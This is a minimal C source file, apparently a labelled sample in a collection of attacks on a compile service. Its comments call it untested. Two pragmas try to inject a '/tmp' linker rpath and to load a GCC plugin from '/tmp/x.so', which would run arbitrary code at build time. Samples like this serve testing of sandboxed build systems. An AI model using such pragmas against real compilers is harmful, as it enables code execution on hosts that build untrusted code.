// attack: options for the linker in the source
// verdict: untested
#pragma comment(linker, "-rpath /tmp")
#pragma GCC optimize("-fplugin=/tmp/x.so")
int main() { return 0; }
